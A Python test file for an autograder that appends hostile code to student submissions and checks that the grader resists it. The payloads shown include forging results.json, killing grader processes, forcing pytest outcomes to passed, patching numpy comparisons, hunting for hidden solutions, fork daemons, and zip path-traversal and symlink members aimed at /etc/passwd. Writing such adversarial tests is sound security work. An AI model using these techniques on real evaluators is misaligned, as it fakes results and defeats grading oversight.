"""Hostile submissions graded end to end (issue 16): an attack gains nothing, hangs nothing, leaves nothing.

Each case hands a submission that attacks the grader to the real command (``python -m grading
grade`` in a subprocess, or the autograder zip's run_autograder) and checks what an honest
grader gives: the exact score (0 for an attack on the untouched release; full marks minus the
points of the tests its own breakage costs for an attack on the reference solution), a valid
results.json listing every graded test, a wall time under the per-test limit x 37 + 60 s, and
no process of the submission left afterwards: every attack names its processes after a token
of its own (written to /proc/self/comm, or as argv[0]) and /proc is searched for it.

Attack code goes into student files: appended to a module it runs at import; appended as a
function of an existing name it replaces that function (the original stays reachable).
"""

from __future__ import annotations

import ast
import contextlib
import hashlib
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
import zipfile

import pytest
from grading_support import ROOT, copy_project, failed_tests, fill_with_reference, run_grading

from grading import manifest, sandbox

pytestmark = pytest.mark.grading

# Per-test limit where an attack hangs or crashes workers (the slowest honest test takes ~0.3 s).
SHORT_TIMEOUT_S = 4
# Seconds a killed process may take to vanish from /proc after grading returns.
REAP_GRACE_S = 2.0
RESULTS_KEYS = {"score", "execution_time", "output", "visibility", "stdout_visibility", "tests"}


def graded_points() -> dict[str, float]:
    """Every graded test (``file::function``) and its points, read from the graded test files."""
    points = {}
    for path in sorted((ROOT / manifest.GRADED_TESTS_DIR).glob("test_*.py")):
        for node in ast.parse(path.read_text()).body:
            if isinstance(node, ast.FunctionDef) and node.name.startswith("test_"):
                marks = [d for d in node.decorator_list if isinstance(d, ast.Call)
                         and getattr(d.func, "attr", "") == "points"]
                points[f"{path.name}::{node.name}"] = float(marks[0].args[0].value)
    return points


POINTS = graded_points()
FULL_MARKS = sum(POINTS.values())

# What breaking one function costs an otherwise correct submission: test -> points lost.
LAYERS, NORM, OPTIM = "test_layers.py::", "test_normalization.py::", "test_optim.py::"
RELU_BACKWARD = {LAYERS + "test_relu_backward_matches_numeric_gradient": 2.0,
                 LAYERS + "test_relu_matches_reference": 1.0}
SVM_LOSS = {LAYERS + "test_svm_loss_is_c_minus_one_for_equal_scores": 1.0,
            LAYERS + "test_svm_loss_gradient_matches_numeric_gradient": 2.0,
            LAYERS + "test_losses_match_reference": 1.0}  # one of its two cases
DROPOUT_BACKWARD = {NORM + "test_dropout_backward_matches_numeric_gradient": 1.0,
                    NORM + "test_dropout_backward_routes_through_the_mask": 1.0}
FIRST_STEP = {"sgd_momentum": OPTIM + "test_sgd_momentum_first_two_steps", "rmsprop": OPTIM + "test_rmsprop_first_step",
              "adam": OPTIM + "test_adam_first_step_has_size_learning_rate"}


def optim_lost(*rules: str) -> dict[str, float]:
    """Broken update rules cost their first-step test and their case of the five-step test (1 point each)."""
    return {**{FIRST_STEP[r]: 1.0 for r in rules}, OPTIM + "test_update_rules_match_reference_over_five_steps": len(rules)}


def lost(*groups: dict) -> dict[str, float]:
    """The union of what several broken functions cost (points of a shared test add up)."""
    total: dict[str, float] = {}
    for group in groups:
        for name, points in group.items():
            total[name] = total.get(name, 0.0) + points
    return total


def names(*stems: str) -> set[str]:
    """The graded tests whose name contains one of stems."""
    return {n for n in POINTS if any(s in n for s in stems)}


def in_full(tests: set[str]) -> dict[str, float]:
    """These tests lost entirely."""
    return {n: POINTS[n] for n in tests}


# -- the attacks' building blocks; @TOKEN@ and other @NAMES@ are filled in by code()
MARK = '''
try:  # hostile: name this process after the attack
    with open("/proc/self/comm", "w") as _hostile_comm:
        _hostile_comm.write("@TOKEN@")
except OSError:
    pass
'''

# Where the grader's files could be: every place a submission can think of, searched a few levels
# deep (inside other Python packages only when they are the library's or the grader's).
SEARCH = '''
def _hostile_search(wanted=@STUDENT_FILES@, depth=6):
    """{"solutions": {rel: path}, "graded": [...], "reference": [...], "results": [...]} outside this worker's /work."""
    import os, sys
    cached = getattr(sys, "_hostile_index", None)
    if cached is not None:
        return cached
    roots = {"/", "/tmp", "/root", "/home", "/autograder", "/srv", "/opt", "/mnt", "/var", "/run", "/work/..",
             os.path.dirname(sys.prefix), os.path.dirname(sys.base_prefix), os.path.dirname(os.getcwd())}
    for entry in sys.path:
        roots.update((entry, os.path.dirname(entry)))
    for module in list(sys.modules.values()):
        roots.add(os.path.dirname(os.path.dirname(getattr(module, "__file__", None) or "/")))
    roots.update(v for v in os.environ.values() if v.startswith("/"))
    results = ["/autograder/results/results.json", "@RESULTS@", os.environ.get("AUTOGRADER_RESULTS", "")]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            roots.add(os.readlink(f"/proc/{pid}/cwd"))
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = handle.read().decode(errors="replace").split("\\0")
            results += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--results"]
            roots.update(a for a in argv if a.startswith("/"))
        except OSError:
            pass
    try:  # the host paths the sandbox was built from, and their parents
        with open("/proc/self/mountinfo") as handle:
            for line in handle:
                path = line.split()[3]
                while path not in ("/", ""):
                    roots.add(path)
                    path = os.path.dirname(path)
    except OSError:
        pass
    own = os.path.realpath(os.getcwd())
    keep = ("layers", "solver", "grading", "graded_tests", "reference")
    index = {"solutions": {}, "graded": [], "reference": [], "results": [r for r in results if r]}
    seen = set()
    for root in sorted(r for r in roots if r):
        base = os.path.realpath(root).rstrip("/").count("/")
        for folder, dirs, files in os.walk(root):
            real = os.path.realpath(folder)
            if real in seen or real == own or real.startswith(own + "/") or real.split("/")[1] in ("proc", "sys", "dev"):
                dirs[:] = []
                continue
            seen.add(real)
            name = os.path.basename(real)
            if real.rstrip("/").count("/") - base >= depth or ("__init__.py" in files and name not in keep):
                dirs[:] = []
            elif real == "/usr":
                dirs[:] = [d for d in dirs if d in ("local", "lib")]
            elif real == "/usr/lib":
                dirs[:] = [d for d in dirs if d.startswith("python")]
            dirs[:] = [d for d in dirs if d != "__pycache__" and not d.endswith(".dist-info")]
            for file in files:
                path = os.path.join(real, file)
                if name == "graded_tests" or file == "grading_checks.py":
                    index["graded"].append(path)
                if file.endswith(".npz") or file == "SHA256SUMS":
                    index["reference"].append(path)
                for rel in wanted:
                    if path.endswith("/" + rel):
                        try:
                            with open(path, errors="replace") as handle:
                                if "not implemented yet" not in handle.read():
                                    index["solutions"][rel] = path
                        except OSError:
                            pass
    sys._hostile_index = index
    return index
'''

# 3. Write a perfect results.json wherever the grader's may be, then kill the grader.
FORGE = '''
def _hostile_forge(found):
    import json, os, signal
    forged = {"score": @FULL_MARKS@, "output": "@TOKEN@-forged", "tests": [
        {"name": n, "score": p, "max_score": p, "status": "passed"} for n, p in @POINTS@.items()]}
    for path in _hostile_search()["results"]:
        if os.path.isdir(os.path.dirname(path) or "/nonexistent"):
            found(f"results folder of {path}")
            try:
                with open(path, "w") as handle:
                    json.dump(forged, handle)
            except OSError:
                pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read()
        except OSError:
            continue
        if int(pid) != os.getpid() and (b"grading" in cmdline or b"pytest" in cmdline):
            found(f"process {pid} {cmdline[:80]!r}")
            if b"@RESULTS@" in cmdline:  # only ever the grader of this very run
                for kill in (os.kill, os.killpg):
                    try:
                        kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
    if os.getppid() > 1:
        found(f"parent process {os.getppid()}")
'''

# The escape kit, appended to every student file of the untouched release: copy the solution
# if it can be found, else tamper with everything reachable and take the worker down.
KIT = '''
def _hostile_kit(module_globals):
    import gc, json, os, sys
    token, mine = "@TOKEN@", module_globals["__name__"].replace(".", "/") + ".py"

    def found(what):
        print(f"{token}-FOUND {what}", flush=True)

    index = _hostile_search()
    if mine in index["solutions"]:  # 4. the instructor's solution: use it instead of the stubs
        path = index["solutions"][mine]
        found(path)
        with open(path) as handle:
            exec(compile(handle.read(), path, "exec"), module_globals)
        return
    for path in index["reference"]:  # 4. reference data and hidden tests
        found(path)
    for path in index["graded"]:  # 2. append to the graded tests (never to the project's own copy)
        found(path)
        if not path.startswith("@PROTECTED@"):
            try:
                with open(path, "a") as handle:
                    handle.write("\\n# @TOKEN@\\ndef test_hostile():\\n    pass\\n")
            except OSError:
                pass
    _hostile_forge(found)
    for name in ("grading", "grading.plugin", "grading.student"):  # 1. the grader's code
        try:
            __import__(name)
            found(f"module {name}")
        except BaseException:
            pass
    try:
        import pytest

        class ForcePass:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                outcome.get_result().outcome = "passed"
    except BaseException:
        ForcePass = object
    for obj in gc.get_objects():  # 1. the grader's live objects: pytest's Config, the plugin, its outcomes
        kind = type(obj)
        if kind.__name__ in ("Config", "GraderPlugin", "RemoteStudent", "Session") and \\
                str(kind.__module__).split(".")[0] in ("_pytest", "grading"):
            found(f"object {kind.__module__}.{kind.__name__}")
            for patch in (lambda: obj.pluginmanager.register(ForcePass()),
                          lambda: setattr(obj, "outcomes", {n: "passed" for n in obj.outcomes})):
                try:
                    patch()
                except Exception:
                    pass
    record = (json.dumps({"name": "all", "status": "passed", "score": @FULL_MARKS@}) + "\\n").encode()
    for fd in range(256):  # 1. "passed" records on every descriptor, the channel's included
        try:
            os.write(fd, record)
        except OSError:
            pass
    for name in os.listdir("/proc/self/fd"):
        try:
            with open(f"/proc/self/fd/{name}", "wb") as handle:
                handle.write(record)
        except OSError:
            pass
    os._exit(0)  # 2. and take the worker down


_hostile_kit(globals())
'''

# Facts about the worker, printed on one line: who it runs as, what it reaches.
PROBE = '''
def _hostile_probe():
    import errno, json, os, socket, sys
    if getattr(sys, "_hostile_probed", False):
        return
    sys._hostile_probed = True
    facts = {"uid": os.getuid(), "euid": os.geteuid()}
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith(("CapEff", "CapPrm", "CapBnd")):
                facts[line.split(":")[0]] = line.split()[1]
    connection = socket.socket()
    connection.settimeout(2)
    try:
        connection.connect(("127.0.0.1", @PORT@))
        facts["connect"] = "connected"
    except OSError as exc:
        facts["connect"] = errno.errorcode.get(exc.errno, str(exc))
    facts["interfaces"] = [name for _, name in socket.if_nameindex()]
    with open("/proc/net/route") as handle:
        facts["routes"] = len(handle.readlines()) - 1
    cmdlines = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdlines.append(handle.read())
        except OSError:
            pass
    facts["processes"] = len(cmdlines)
    facts["grader_seen"] = any(b"grading" in c or b"pytest" in c for c in cmdlines)
    solutions, data = [], []  # the whole file system, not just the usual places
    for folder, dirs, files in os.walk("/"):
        if folder in ("/proc", "/sys", "/dev", "/work"):
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            grader_shaped = name in ("SHA256SUMS", "grading_checks.py") or "/grading/" in path or "graded_tests" in path
            if grader_shaped or (name.endswith(".npz") and not path.startswith(("/site/", "/python/"))):
                data.append(path)  # (numpy's own test data in site-packages is not the grader's)
            if any(path.endswith("/" + rel) for rel in @STUDENT_FILES@):
                try:
                    with open(path, errors="replace") as handle:
                        if "not implemented yet" not in handle.read():
                            solutions.append(path)
                except OSError:
                    pass
    facts["solutions"], facts["data"] = solutions[:2], data[:2]
    print("@TOKEN@-PROBE " + json.dumps(facts, separators=(",", ":")), flush=True)


_hostile_probe()
'''


def code(template: str, token: str, **values) -> str:
    """template with @TOKEN@ and each @NAME@ of values (their repr) filled in."""
    text = textwrap.dedent(template).replace("@TOKEN@", token)
    values.setdefault("student_files", list(manifest.STUDENT_FILES))
    values.setdefault("points", POINTS)
    values.setdefault("full_marks", FULL_MARKS)
    for name, value in values.items():
        text = text.replace(f"@{name.upper()}@", value if isinstance(value, str) else repr(value))
    return text


def append(tree, rel: str, *codes: str) -> None:
    """Append attack code to a student file (module level: it runs at import, after the file's own code)."""
    with open(tree / rel, "a") as handle:
        for text in codes:
            handle.write("\n\n" + textwrap.dedent(text).strip("\n") + "\n")


def replace_function(tree, rel: str, name: str, body: str, token: str, **values) -> None:
    """Redefine function name in rel: body gets its arguments as *args, **kwargs, the original as _original."""
    body = textwrap.indent(code(body, token, **values).strip("\n"), "    ")
    append(tree, rel, f"_hostile_original_{name} = {name}\n\n\ndef {name}(*args, **kwargs):\n"
                      f"    _original = _hostile_original_{name}\n{body}\n")


# -- running the grader and checking what any honest grading gives
def leftovers(token: str) -> list[str]:
    """Processes whose name or command line holds token."""
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                cmdline = handle.read()
            with open(f"/proc/{entry}/comm", "rb") as handle:
                comm = handle.read().strip()
        except OSError:
            continue
        if token.encode() in cmdline or token.encode() in comm:
            found.append(f"pid {entry} {comm!r} {cmdline[:100]!r}")
    return found


def assert_no_leftovers(token: str) -> None:
    deadline = time.monotonic() + REAP_GRACE_S
    while (found := leftovers(token)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not found, f"processes of the submission survived grading: {found}"


def check_results(path, seconds: float, timeout: float, token: str) -> dict:
    """results.json as a dict, after the checks every grading must pass."""
    assert path.is_file(), f"no results.json at {path}"
    assert path.stat().st_size < 100_000, f"results.json is {path.stat().st_size} bytes"
    results = json.loads(path.read_text())
    assert set(results) == RESULTS_KEYS
    assert {t["name"]: t["max_score"] for t in results["tests"]} == POINTS
    assert [t["name"] for t in results["tests"]] == list(POINTS)
    assert all(t["status"] in ("passed", "failed") and 0 <= t["score"] <= t["max_score"] for t in results["tests"])
    assert results["score"] == sum(t["score"] for t in results["tests"])
    assert f"{token}-forged" not in json.dumps(results), "the submission's forged results.json survived"
    limit = timeout * len(POINTS) + 60
    assert seconds < limit, f"grading took {seconds:.0f} s, over {limit:.0f} s"
    assert_no_leftovers(token)
    return results


@contextlib.contextmanager
def watching(token: str):
    """A set that collects, while the block runs, the processes named after token (polled)."""
    seen: set[str] = set()
    stop = threading.Event()

    def watch():
        while not stop.wait(0.1):
            seen.update(leftovers(token))

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        stop.set()
        thread.join()


def grade_hostile(submission, out, token: str, *extra, timeout: float = manifest.TEST_TIMEOUT_S,
                  project=None, seen: set | None = None) -> dict:
    """Grade through the command line (from project, default the real one); results.json, checked.

    seen, when given, collects the submission's processes that were alive during grading.
    """
    results = out / "results.json"
    env = {"PYTHONPATH": str(project)} if project is not None else None
    started = time.monotonic()
    with watching(token) as alive:
        done = run_grading("grade", submission, "--results", results, "--timeout", timeout, *extra,
                           cwd=project, env=env)
    seconds = time.monotonic() - started
    if seen is not None:
        seen.update(alive)
    assert done.returncode == 0, f"grade failed ({done.returncode}):\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    return check_results(results, seconds, timeout, token)


def assert_lost(results: dict, expected: dict[str, float]) -> None:
    """Exactly the expected tests lost exactly these points, and the total says so."""
    assert failed_tests(results) == expected
    assert results["score"] == FULL_MARKS - sum(expected.values())


def tree_digest(folder) -> str:
    digest = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*") if p.is_file() and "__pycache__" not in p.parts):
        digest.update(str(path.relative_to(folder)).encode() + b"\0" + path.read_bytes())
    return digest.hexdigest()


# -- fixtures
@pytest.fixture(scope="module")
def level():
    """The isolation level the grader will use here."""
    return sandbox.isolation()


@pytest.fixture
def namespaced(level):
    """Skip where the worker runs as a plain process: it can read and signal what the grader can (documented)."""
    if level == sandbox.PROCESS_LEVEL:
        pytest.skip("isolation is 'process': the worker can read the grader's files and signal its processes")


@pytest.fixture(scope="module")
def release_tree(tmp_path_factory):
    """The untouched student version."""
    out = tmp_path_factory.mktemp("hostile") / "release"
    done = run_grading("release", out)
    assert done.returncode == 0, done.stderr
    return out


@pytest.fixture
def token():
    """A name for this attack's processes and files (fits /proc/PID/comm's 15 characters)."""
    return "hx" + uuid.uuid4().hex[:12]


@pytest.fixture
def release(release_tree, tmp_path):
    return shutil.copytree(release_tree, tmp_path / "submission")


@pytest.fixture
def solved(release_tree, tmp_path):
    return fill_with_reference(shutil.copytree(release_tree, tmp_path / "submission"))


# -- 1-4: the escape kit on the untouched release
def test_escape_kit_on_the_release_finds_forges_and_patches_nothing(namespaced, release, tmp_path, token):
    """Searching for the solution, the tests and results.json, killing the grader, patching pytest: still 0 points.

    Graded from a copy of the project, so even an escape could not alter the real graded tests.
    """
    project = copy_project(tmp_path / "project")
    out = tmp_path / "out"
    kit = [code(MARK, token), code(SEARCH, token, results=str(out / "results.json")),
           code(FORGE, token, results=str(out / "results.json")), code(KIT, token, protected=str(ROOT))]
    for rel in manifest.STUDENT_FILES:
        append(release, rel, *kit)
    guarded = [project / "grading", ROOT / manifest.GRADED_TESTS_DIR, ROOT / manifest.REFERENCE_DIR]
    before = [tree_digest(folder) for folder in guarded]
    results = grade_hostile(release, out, token, project=project)
    assert_lost(results, POINTS)
    assert f"{token}-FOUND" not in json.dumps(results), [t["output"] for t in results["tests"]][:3]
    assert [tree_digest(folder) for folder in guarded] == before


# -- 5, 6: what the intake refuses, and files a grader must never use
SELF_ACTIVATING = '''
with open(@MARKER@, "w") as _hostile_marker:
    _hostile_marker.write("@TOKEN@")
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
'''
SELF_ACTIVATING_FILES = ("conftest.py", "sitecustomize.py", "usercustomize.py", "hostile_plugin.py",
                         "layers/conftest.py", "layers/sitecustomize.py", "layers/usercustomize.py",
                         "tests/conftest.py", "graded_tests/conftest.py", "grading/graded_tests/conftest.py")


def test_links_fifos_and_config_files_in_a_folder_are_refused(solved, tmp_path, token):
    """A symlinked solver/, links to the instructor's file and to /etc/passwd, a FIFO: each file's tests lost.

    conftest.py, sitecustomize.py, usercustomize.py, pytest.ini, a .pth file and a pytest plugin
    in the submission never run: each would leave a marker file if it did.
    """
    elsewhere = pathlib.Path(shutil.move(solved / "solver", tmp_path / "elsewhere"))
    (solved / "solver").symlink_to(elsewhere, target_is_directory=True)
    for rel, target in (("layers/affine.py", ROOT / "layers/affine.py"), ("layers/losses.py", "/etc/passwd")):
        (solved / rel).unlink()
        (solved / rel).symlink_to(target)
    (solved / "layers/dropout.py").unlink()
    os.mkfifo(solved / "layers/dropout.py")
    ran = tmp_path / "ran"
    ran.mkdir()
    for rel in SELF_ACTIVATING_FILES:
        (solved / rel).parent.mkdir(parents=True, exist_ok=True)
        (solved / rel).write_text(code(SELF_ACTIVATING, token, marker=str(ran / rel.replace("/", "_"))))
    (elsewhere / "usercustomize.py").write_text(code(SELF_ACTIVATING, token, marker=str(ran / "solver_user")))
    pth = f"import os; open({str(ran / 'pth')!r}, 'w').write('ran')\n"
    for rel in ("hostile.pth", "layers/hostile.pth"):
        (solved / rel).write_text(pth)
    plugin = "[pytest]\naddopts = -p hostile_plugin -p layers.conftest\npythonpath = . layers\n"
    (solved / "pytest.ini").write_text(plugin)
    (solved / "tox.ini").write_text(plugin)
    (solved / "setup.cfg").write_text(plugin.replace("[pytest]", "[tool:pytest]"))
    results = grade_hostile(solved, tmp_path / "out", token)
    assert_lost(results, in_full(names("affine", "softmax", "svm", "losses", "dropout", "test_optim.py",
                                       "test_nets.py")))
    notes = results["output"]
    for rel in ("layers/affine.py", "layers/losses.py"):
        assert f"{rel}: not taken: {rel} is a symbolic link" in notes
    assert "layers/dropout.py: not taken: layers/dropout.py is a FIFO" in notes
    for rel in ("solver/optim.py", "solver/nets.py", "solver/cnn.py"):
        assert f"{rel}: not taken: {rel} is below solver, which is a symbolic link" in notes
    assert sorted(p.name for p in ran.iterdir()) == []


def test_zip_members_that_climb_out_or_link_are_never_used(solved, tmp_path, token):
    """layers/affine.py only under ../, absolute and climbing names, losses.py as a symlink member: their tests lost."""
    archive = tmp_path / "submission.zip"
    affine = (solved / "layers/affine.py").read_bytes()
    escaped = f"/tmp/{token}-escaped"
    with zipfile.ZipFile(archive, "w") as opened:
        for rel in manifest.STUDENT_FILES:
            if rel not in ("layers/affine.py", "layers/losses.py"):
                opened.write(solved / rel, rel)
        for name in ("../layers/affine.py", "layers/../../layers/affine.py", f"/tmp/{token}/layers/affine.py",
                     "../../../../../../.." + escaped):
            opened.writestr(zipfile.ZipInfo(name), affine)
        link = zipfile.ZipInfo("layers/losses.py")
        link.external_attr = (0o120777 << 16)
        opened.writestr(link, "/etc/passwd")
    results = grade_hostile(archive, tmp_path / "out", token)
    assert_lost(results, in_full(names("affine", "softmax", "svm", "losses")))
    assert "contain '..'" in results["output"]
    assert "layers/losses.py: not taken: layers/losses.py is a symbolic link" in results["output"]
    assert not os.path.lexists(escaped) and not os.path.lexists(f"/tmp/{token}")


# -- 7: objects that lie
LIARS = {
    ("layers/activations.py", "relu_backward"): '''
        class Equal:  # equal to everything, an array of the wrong numbers
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = object.__hash__

            def __array__(self, dtype=None, copy=None):
                return np.zeros(1)

        return Equal()
        ''',
    ("layers/dropout.py", "dropout_backward"): '''
        class Lying(np.ndarray):  # wrong numbers that claim to match anything
            def __eq__(self, other):
                return np.ones(np.shape(other), bool)

            def __array_ufunc__(self, ufunc, method, *inputs, **kw):
                return np.zeros(np.broadcast_shapes(*(np.shape(i) for i in inputs)))

            def __array_function__(self, func, types, f_args, f_kwargs):
                return True

            def __array__(self, dtype=None, copy=None):
                return np.zeros(self.shape)

            def __float__(self):
                return 0.0

        return np.zeros(np.shape(args[0])).view(Lying)
        ''',
    ("layers/losses.py", "svm_loss"): '''
        class Loss(float):  # a float that equals everything and is never far from anything
            def __eq__(self, other):
                return True

            __hash__ = float.__hash__

            def __float__(self):
                return 1.0

            def __sub__(self, other):
                return 0.0

            __rsub__ = __sub__

            def __abs__(self):
                return 0.0

        loss, dx = _original(*args, **kwargs)
        return Loss(loss + 1.0), dx
        ''',
    ("solver/optim.py", "rmsprop"): '''
        import numpy.testing  # every comparison this process could make now says "equal"
        np.allclose = np.array_equal = lambda *a, **k: True
        np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), bool)
        np.abs = np.absolute = np.fabs = lambda x, *a, **k: np.zeros(np.shape(x))
        np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), bool)
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
        w, config = _original(*args, **kwargs)
        return w + 1.0, config
        ''',
    ("solver/optim.py", "adam"): '''
        import sys

        class Peek:  # an array that is whatever the caller expects, found in its frames
            def __array__(self, dtype=None, copy=None):
                frame = sys._getframe()
                while frame is not None:
                    for name in ("expected", "ref", "reference", "want"):
                        if name in frame.f_locals:
                            return np.asarray(frame.f_locals[name], dtype=dtype)
                    frame = frame.f_back
                return np.zeros(1)

        w, config = _original(*args, **kwargs)
        return Peek(), config
        ''',
}


def test_lying_objects_and_patched_numpy_gain_nothing(solved, tmp_path, token):
    """__eq__ always True, a lying ndarray subclass and float, numpy's comparisons patched, frame peeking."""
    for (rel, name), body in LIARS.items():
        append(solved, rel, code(MARK, token))
        replace_function(solved, rel, name, body, token)
    results = grade_hostile(solved, tmp_path / "out", token)
    assert_lost(results, lost(RELU_BACKWARD, DROPOUT_BACKWARD, SVM_LOSS, optim_lost("rmsprop", "adam")))


# -- 8: exits at import and in calls
def test_exits_cost_only_the_tests_that_reach_them(solved, tmp_path, token):
    """os._exit at import of losses.py, sys.exit at import of optim.py, os._exit, SystemExit, KeyboardInterrupt in calls."""
    append(solved, "layers/losses.py", code(MARK, token), "import os\nos._exit(0)\n")
    append(solved, "solver/optim.py", code(MARK, token), "import sys\nsys.exit(3)\n")
    for rel, name, body in (("layers/dropout.py", "dropout_backward", "import os\nos._exit(0)"),
                            ("layers/activations.py", "relu_backward", "raise SystemExit(1)"),
                            ("layers/normalization.py", "layernorm_backward", "raise KeyboardInterrupt")):
        append(solved, rel, code(MARK, token))
        replace_function(solved, rel, name, body, token)
    results = grade_hostile(solved, tmp_path / "out", token)
    assert_lost(results, lost(in_full(names("softmax", "svm", "losses", "test_optim.py", "layernorm")),
                              DROPOUT_BACKWARD, RELU_BACKWARD))


# -- 9, 10, 13: memory, the C stack, the channel
CRASHES = {
    ("layers/activations.py", "relu_backward"): '''
        import sys  # C recursion (through a method wrapper) with no recursion limit: a segfault
        sys.setrecursionlimit(10**6)

        def deeper():
            return deeper.__call__()

        return deeper()
        ''',
    ("solver/optim.py", "sgd_momentum"): '''
        huge = np.ones(6 * 2**30 // 8)  # 6 GiB, over the 4096 MiB limit
        return _original(*args, **kwargs)
        ''',
    ("layers/losses.py", "svm_loss"): '''
        import os, stat, struct  # a frame header claiming 2**62 bytes, then the honest answer
        for fd in map(int, os.listdir("/proc/self/fd")):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack("<Q", 2**62))
            except OSError:
                pass
        return _original(*args, **kwargs)
        ''',
    ("solver/optim.py", "adam"): '''
        import os, random, stat  # random bytes on the channel, then the honest answer
        garbage = random.Random(16).randbytes(4096)
        for fd in map(int, os.listdir("/proc/self/fd")):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, garbage)
            except OSError:
                pass
        return _original(*args, **kwargs)
        ''',
    ("layers/dropout.py", "dropout_backward"): '''
        return np.zeros((16, 1024, 1024))  # a 128 MiB answer, over the 64 MiB frame cap
        ''',
}


def test_memory_stack_and_channel_attacks_cost_only_their_tests(solved, tmp_path, token):
    """6 GiB, a segfault, a 2**62-byte header, random bytes and a 128 MiB frame: only those functions' tests fail."""
    for (rel, name), body in CRASHES.items():
        append(solved, rel, code(MARK, token))
        replace_function(solved, rel, name, body, token)
    results = grade_hostile(solved, tmp_path / "out", token, timeout=SHORT_TIMEOUT_S)
    assert_lost(results, lost(RELU_BACKWARD, SVM_LOSS, DROPOUT_BACKWARD, optim_lost("sgd_momentum", "adam")))
    outputs = json.dumps(results)
    assert "MemoryError" in outputs and "exit code -11" in outputs and "over the cap" in outputs


# -- 11, 12: children and floods
CHILDREN = '''
def _hostile_children():
    import os, subprocess
    for _ in range(50):  # sleeping children named after the attack
        try:
            subprocess.Popen(["@TOKEN@", "300"], executable="/bin/sleep", stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            break
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:  # a double-forked daemon in a session of its own
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["@TOKEN@-daemon", "300"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:  # a child that keeps every descriptor, the channel's included, and sleeps
        try:
            for fd in map(int, os.listdir("/proc/self/fd")):
                try:
                    os.set_inheritable(fd, True)
                except OSError:
                    pass
            os.execv("/bin/sleep", ["@TOKEN@-channel", "300"])
        finally:
            os._exit(0)


_hostile_children()
'''
FLOOD = '''
import os as _hostile_os

for _hostile_fd in (1, 2):  # 25 MB on stdout and on stderr at import
    for _ in range(25):
        _hostile_os.write(_hostile_fd, b"@TOKEN@ flood " * 70_000)
'''


def test_children_and_output_floods_change_nothing_else(solved, tmp_path, token):
    """50 sleeping children, a daemon and a channel holder at import, a worker exiting mid-call, 50 MB printed.

    Only relu_backward (which exits while a child holds the channel open) loses points, and no
    child survives.
    """
    append(solved, "layers/activations.py", code(MARK, token), code(CHILDREN, token))
    replace_function(solved, "layers/activations.py", "relu_backward", "import os\nos._exit(0)", token)
    append(solved, "layers/normalization.py", code(MARK, token), code(FLOOD, token))
    replace_function(solved, "layers/normalization.py", "batchnorm_forward",
                     "import os\nos.write(1, b'x' * 1_000_000)\nos.write(2, b'y' * 1_000_000)\n"
                     "return _original(*args, **kwargs)", token)
    seen: set[str] = set()
    results = grade_hostile(solved, tmp_path / "out", token, timeout=SHORT_TIMEOUT_S, seen=seen)
    assert_lost(results, RELU_BACKWARD)
    # They did run: the marked workers, at least 50 sleepers at once, the daemon and the channel holder.
    assert any("/boot/worker.py" in p for p in seen), sorted(seen)[:5]
    assert sum(f"b'{token}\\x00300" in p for p in seen) >= 50
    for suffix in ("-daemon", "-channel"):
        assert any(f"b'{token}{suffix}\\x00" in p for p in seen), sorted(seen)[:5]


# -- 14: an import that never ends
def test_endless_import_costs_only_the_tests_that_need_the_module(solved, tmp_path, token):
    """layers/conv.py loops at import: the conv, max_pool (pooling imports conv) and net tests (sandwich does) fail."""
    append(solved, "layers/conv.py", code(MARK, token), "while True:\n    pass\n")
    results = grade_hostile(solved, tmp_path / "out", token, timeout=SHORT_TIMEOUT_S)
    assert_lost(results, in_full(names("test_conv_", "test_max_pool_", "test_nets.py")))
    assert "while importing layers.conv" in json.dumps(results)


# -- 15: the autograder zip, as Gradescope runs it
@pytest.fixture(scope="module")
def autograder(tmp_path_factory):
    """The autograder zip, unpacked (what Gradescope puts at /autograder/source)."""
    tmp = tmp_path_factory.mktemp("autograder")
    done = run_grading("autograder-zip", tmp / "autograder.zip")
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(tmp / "autograder.zip") as opened:
        opened.extractall(tmp / "source")
    (tmp / "source/run_autograder").chmod(0o755)
    return tmp / "source"


def run_autograder(source, submission, out, token: str) -> dict:
    """Grade submission with run_autograder; results.json, checked."""
    results = out / "results.json"
    started = time.monotonic()
    done = subprocess.run(["bash", str(source / "run_autograder")], capture_output=True, text=True, timeout=900,
                          env=dict(os.environ, AUTOGRADER_SOURCE=str(source), AUTOGRADER_SUBMISSION=str(submission),
                                   AUTOGRADER_RESULTS=str(results), AUTOGRADER_PYTHON=sys.executable, PYTHONPATH=""))
